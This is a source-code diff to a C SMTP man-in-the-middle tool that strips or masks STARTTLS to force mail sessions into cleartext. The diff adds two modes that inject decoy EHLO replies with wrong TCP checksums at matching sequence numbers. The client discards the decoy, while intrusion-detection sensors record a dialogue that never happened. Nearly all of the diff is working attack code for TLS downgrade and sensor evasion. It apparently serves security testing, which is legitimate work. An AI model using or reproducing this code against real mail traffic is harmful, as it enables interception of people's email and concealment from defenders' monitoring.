@@ -10,6 +10,13 @@
  *   own-cert        terminate TLS toward the client with our own certificate
  *                   and open TLS to the real server (capped at TLS 1.2 toward
  *                   the client unless -t 1.3, so the certificate stays visible)
+ *   insert-strip    strip STARTTLS from the EHLO reply the client gets, and
+ *                   first write on the wire (-i IFACE), at the same sequence
+ *                   numbers, the genuine reply with a wrong TCP checksum: the
+ *                   client's kernel drops it, a sensor that takes it as
+ *                   first data follows a dialogue the client never had
+ *   insert-decoy    relay the EHLO reply unchanged, after a decoy at the same
+ *                   sequence numbers (wrong TCP checksum) that masks STARTTLS
  */
 #include "mitm.h"
 
@@ -26,7 +33,7 @@
 #include <sys/socket.h>
 #include <unistd.h>
 
-enum smtp_mode { M_PASS, M_STRIP, M_MASK, M_454, M_CERT };
+enum smtp_mode { M_PASS, M_STRIP, M_MASK, M_454, M_CERT, M_INS_STRIP, M_INS_DECOY };
 
 #define LINE_MAX_LEN  4096
 #define REPLY_MAX_LEN 16384
@@ -47,7 +54,9 @@ struct session {
 	size_t reply_len;
 	bool mail_started;  /* MAIL seen: no more EHLO/STARTTLS to touch */
 	bool starttls_sent; /* client's STARTTLS forwarded, answer pending */
+	bool decoy_sent;    /* insert-*: the EHLO reply's decoy went out */
 	SSL_CTX *tls_to_client, *tls_to_server;
+	struct wire_tap *tap; /* insert-*: the client-facing wire */
 };
 
 static const char reply_454[] = "454 4.7.0 TLS not available due to local problem\r\n";
@@ -64,6 +73,10 @@ static enum smtp_mode parse_mode(const char *m)
 		return M_454;
 	if (strcmp(m, "own-cert") == 0)
 		return M_CERT;
+	if (strcmp(m, "insert-strip") == 0)
+		return M_INS_STRIP;
+	if (strcmp(m, "insert-decoy") == 0)
+		return M_INS_DECOY;
 	mitm_fatal("unknown smtp mode %s", m);
 }
 
@@ -92,11 +105,12 @@ static bool is_starttls_line(const char *line, size_t len)
 }
 
 /*
- * Rewrites the complete multi-line reply in s->reply for the strip and mask
- * modes. Stripping keeps the reply well formed: every line but the last
- * continues with '-', the last ends it with ' '.
+ * Rewrites the complete multi-line reply in s->reply as mode HOW (M_STRIP
+ * or M_MASK) does. Stripping keeps the reply well formed: every line but
+ * the last continues with '-', the last ends it with ' '. False when the
+ * reply has no STARTTLS line (left as it was).
  */
-static void transform_reply(struct session *s)
+static bool transform_reply_as(struct session *s, enum smtp_mode how)
 {
 	char out[REPLY_MAX_LEN];
 	size_t olen = 0, last = 0, i = 0;
@@ -110,7 +124,7 @@ static void transform_reply(struct session *s)
 		i += len;
 		if (is_starttls_line(line, len)) {
 			changed = true;
-			if (s->mode == M_STRIP)
+			if (how == M_STRIP)
 				continue;
 			memcpy(line + 4, "XXXXXXXA", 8);
 		}
@@ -119,8 +133,8 @@ static void transform_reply(struct session *s)
 		olen += len;
 	}
 	if (!changed)
-		return;
-	if (s->mode == M_STRIP) {
+		return false;
+	if (how == M_STRIP) {
 		for (i = 0; i < olen; i++)
 			if ((i == 0 || out[i - 1] == '\n') && olen - i > 3)
 				out[i + 3] = i == last ? ' ' : '-';
@@ -129,6 +143,30 @@ static void transform_reply(struct session *s)
 		mitm_log("masked STARTTLS as XXXXXXXA in the EHLO reply");
 	}
 	memcpy(s->reply, out, olen);
+	s->reply_len = olen;
+	return true;
+}
+
+/*
+ * insert-strip and insert-decoy: the reply in s->reply advertises STARTTLS.
+ * Writes the decoy on the wire and leaves in s->reply what the client gets.
+ */
+static void insert_decoy(struct session *s)
+{
+	char orig[REPLY_MAX_LEN];
+	size_t olen = s->reply_len;
+
+	memcpy(orig, s->reply, olen);
+	if (!transform_reply_as(s, s->mode == M_INS_STRIP ? M_STRIP : M_MASK))
+		return;
+	s->decoy_sent = true;
+	if (s->mode == M_INS_STRIP) {
+		/* The client gets the stripped reply; the decoy is the genuine one. */
+		mitm_wire_decoy(s->tap, orig, olen);
+		return;
+	}
+	mitm_wire_decoy(s->tap, s->reply, s->reply_len);
+	memcpy(s->reply, orig, olen);
 	s->reply_len = olen;
 }
 
@@ -322,7 +360,10 @@ static void server_reply(struct session *s)
 			raw_relay(s);
 		}
 	} else if (!s->mail_started && (s->mode == M_STRIP || s->mode == M_MASK)) {
-		transform_reply(s);
+		transform_reply_as(s, s->mode);
+	} else if (!s->mail_started && !s->decoy_sent &&
+		   (s->mode == M_INS_STRIP || s->mode == M_INS_DECOY)) {
+		insert_decoy(s);
 	}
 	if (!mitm_write_all(s->cli.fd, s->reply, s->reply_len))
 		exit(0);
@@ -357,16 +398,27 @@ static bool pump(struct session *s, struct side *side,
 	if (n <= 0)
 		return false;
 	side->len += (size_t)n;
+	/*
+	 * Each line leaves the buffer before FN sees it: FN may never return
+	 * (the relay after STARTTLS), and what it relays must not include the
+	 * line it was handed.
+	 */
 	while ((nl = memchr(side->buf, '\n', side->len)) != NULL) {
+		char line[LINE_MAX_LEN];
 		size_t l = (size_t)(nl - side->buf) + 1;
 
-		fn(s, side->buf, l);
+		memcpy(line, side->buf, l);
 		memmove(side->buf, side->buf + l, side->len - l);
 		side->len -= l;
+		fn(s, line, l);
 	}
 	if (side->len == sizeof(side->buf)) {
-		fn(s, side->buf, side->len);
+		char line[LINE_MAX_LEN];
+		size_t l = side->len;
+
+		memcpy(line, side->buf, l);
 		side->len = 0;
+		fn(s, line, l);
 	}
 	return true;
 }
@@ -380,6 +432,9 @@ static _Noreturn void serve(struct session *s)
 	if (getsockopt(s->cli.fd, SOL_IP, SO_ORIGINAL_DST, &dst, &dlen) < 0)
 		mitm_fatal("no original destination (not redirected?): %s", strerror(errno));
 	inet_ntop(AF_INET, &dst.sin_addr, name, sizeof(name));
+	/* Watching the wire before the banner goes out: every segment is seen. */
+	if (s->mode == M_INS_STRIP || s->mode == M_INS_DECOY)
+		s->tap = mitm_wire_open(s->o->wire_iface, s->cli.fd, &dst);
 	s->srv.fd = mitm_connect(&dst);
 	if (s->srv.fd < 0)
 		mitm_fatal("cannot reach %s:%u: %s", name, ntohs(dst.sin_port), strerror(errno));
@@ -433,6 +488,8 @@ int mitm_smtp_run(const struct mitm_opts *o)
 	proto.mode = parse_mode(o->mode);
 	if (proto.mode == M_CERT)
 		setup_tls(&proto);
+	if ((proto.mode == M_INS_STRIP || proto.mode == M_INS_DECOY) && o->wire_iface == NULL)
+		mitm_fatal("%s needs -i IFACE", o->mode);
 	lfd = mitm_listen(SOCK_STREAM, o->listen_port);
 	mitm_log("smtp %s listening on port %u", o->mode, o->listen_port);
 	for (;;) {
